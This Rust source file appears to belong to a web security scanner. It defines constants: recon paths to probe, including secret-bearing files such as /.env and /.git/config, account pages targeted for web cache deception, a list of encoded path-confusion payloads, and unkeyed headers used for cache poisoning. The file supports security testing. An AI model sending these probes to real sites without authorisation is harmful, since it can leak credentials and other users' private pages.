//! Static path lists and probe payloads.

/// Paths requested by the recon bruteforce step.
pub const DEFAULT_PATHS: &[&str] = &[
    "/admin",
    "/admin/",
    "/administrator/",
    "/login",
    "/account",
    "/my-account",
    "/profile",
    "/dashboard",
    "/settings",
    "/user",
    "/api",
    "/api/v1/user",
    "/api/me",
    "/config",
    "/.env",
    "/.git/config",
    "/backup",
    "/server-status",
    "/phpinfo.php",
    "/wp-admin/",
];

/// Paths that commonly serve per-user content. Each one is a WCD probe target.
pub const KNOWN_PATHS: &[&str] = &[
    "/my-account",
    "/account",
    "/profile",
    "/user",
    "/me",
    "/settings",
    "/dashboard",
    "/api/user",
    "/api/me",
];

/// A path transformation that may make the cache and the origin disagree on
/// what resource is being requested.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WcdPayload {
    /// Appended to the target path. `{token}` is replaced by a cache buster.
    Suffix(&'static str),
    /// A static directory placed before the target path.
    Prefix(&'static str),
}

impl WcdPayload {
    pub fn label(&self) -> &'static str {
        match self {
            WcdPayload::Suffix(s) | WcdPayload::Prefix(s) => s,
        }
    }
}

pub const WCD_PAYLOADS: &[WcdPayload] = &[
    WcdPayload::Suffix("/{token}.css"),
    WcdPayload::Suffix("/{token}.js"),
    WcdPayload::Suffix(".css"),
    WcdPayload::Suffix(";{token}.css"),
    WcdPayload::Suffix("%3b{token}.css"),
    WcdPayload::Suffix("%23{token}.css"),
    WcdPayload::Suffix("%3f{token}.css"),
    WcdPayload::Suffix("%00{token}.css"),
    WcdPayload::Suffix("%2f..%2f{token}.css"),
    WcdPayload::Suffix("/..%2f{token}.css"),
    WcdPayload::Prefix("/static/..%2f"),
    WcdPayload::Prefix("/assets/..%2f"),
    WcdPayload::Prefix("/resources/..%2f"),
];

/// Headers that caches commonly leave out of the cache key while origins
/// still use them to build absolute links.
pub const UNKEYED_HEADERS: &[&str] = &[
    "X-Forwarded-Host",
    "X-Host",
    "X-Forwarded-Server",
    "X-HTTP-Host-Override",
];
